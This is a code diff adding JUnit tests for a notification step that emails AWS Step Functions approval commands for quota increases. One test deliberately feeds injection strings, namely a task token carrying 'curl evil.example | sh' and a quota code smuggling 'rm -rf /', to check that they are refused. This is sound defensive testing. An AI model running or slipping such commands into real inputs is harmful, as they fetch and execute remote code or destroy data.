@@ -283,4 +283,49 @@ class NotifyStepTest {
         assertThat(aws.published()).singleElement().satisfies(p ->
                 assertThat(p.get("Subject")).isEqualTo("Quota Doctor could not finish a diagnosis: Lambda.ServiceException"));
     }
+
+    private static final String EXECUTION = "arn:aws:states:us-east-1:111122223333:execution:QuotaDoctor:run-1";
+    private static final String TOKEN = "AQCEAAAAKgAAAAMAAAAAAAAAAYq5V0n+token/abc==";
+
+    @Test
+    void theGuidedFixAsksOnceWithTheExactApprovalCommandsAndSaysWhatBecameOfIt() throws Exception {
+        String approval = "{\"approval\":{\"taskToken\":\"" + TOKEN + "\",\"execution\":\"" + EXECUTION + "\",\"hours\":24,"
+                + "\"justification\":\"Workload: peak 205,000 TPM\",\"filings\":[{\"quotaCode\":\"L-F4DDD3EB\","
+                + "\"region\":\"us-west-2\",\"desiredValue\":400000}]}}";
+
+        NotifyStep.Result first = step().run(approval);
+        NotifyStep.Result again = step().run(approval);
+        NotifyStep.Result rejected = step().run("{\"approval\":{\"outcome\":\"was rejected\",\"execution\":\""
+                + EXECUTION + "\",\"filings\":[{\"quotaCode\":\"L-F4DDD3EB\",\"region\":\"us-west-2\","
+                + "\"desiredValue\":400000}]}}");
+
+        assertThat(first).isEqualTo(NotifyStep.Result.SENT);
+        assertThat(again).isEqualTo(NotifyStep.Result.SUPPRESSED);
+        assertThat(rejected).isEqualTo(NotifyStep.Result.SENT);
+        assertThat(aws.published()).hasSize(2);
+        Map<String, String> ask = aws.published().get(0);
+        assertThat(ask.get("Subject")).isEqualTo("Quota Doctor: approve 1 quota increase request?");
+        String text = JsonTree.parse(ask.get("Message")).path("default").asText();
+        assertThat(text).contains("  - L-F4DDD3EB in us-west-2: 400,000")
+                .contains("$ aws stepfunctions send-task-success --task-token '" + TOKEN + "' --task-output "
+                        + "'{\"approved\":true}' --region us-east-1")
+                .contains("$ aws stepfunctions send-task-failure --task-token '" + TOKEN + "' --error Rejected")
+                .contains("https://us-east-1.console.aws.amazon.com/states/home?region=us-east-1#/v2/executions/details/"
+                        + EXECUTION)
+                .contains("lapses in 24 h");
+        assertThat(aws.published().get(1).get("Subject")).isEqualTo("Quota Doctor: was rejected, nothing filed");
+    }
+
+    @Test
+    void aTokenOrFilingOffItsShapeIsRefusedNotPublished() {
+        String forged = "{\"approval\":{\"taskToken\":\"x' --region us-east-1; curl evil.example | sh; '\","
+                + "\"execution\":\"" + EXECUTION + "\",\"filings\":[]}}";
+        String badCode = "{\"approval\":{\"taskToken\":\"" + TOKEN + "\",\"execution\":\"" + EXECUTION + "\","
+                + "\"filings\":[{\"quotaCode\":\"L-1\\n$ rm -rf /\",\"region\":\"us-west-2\",\"desiredValue\":1}]}}";
+
+        org.assertj.core.api.Assertions.assertThatThrownBy(() -> step().run(forged))
+                .hasMessageContaining("approval.taskToken: expected a Step Functions task token");
+        org.assertj.core.api.Assertions.assertThatThrownBy(() -> step().run(badCode)).hasMessageContaining("quotaCode");
+        assertThat(aws.published()).isEmpty();
+    }
 }
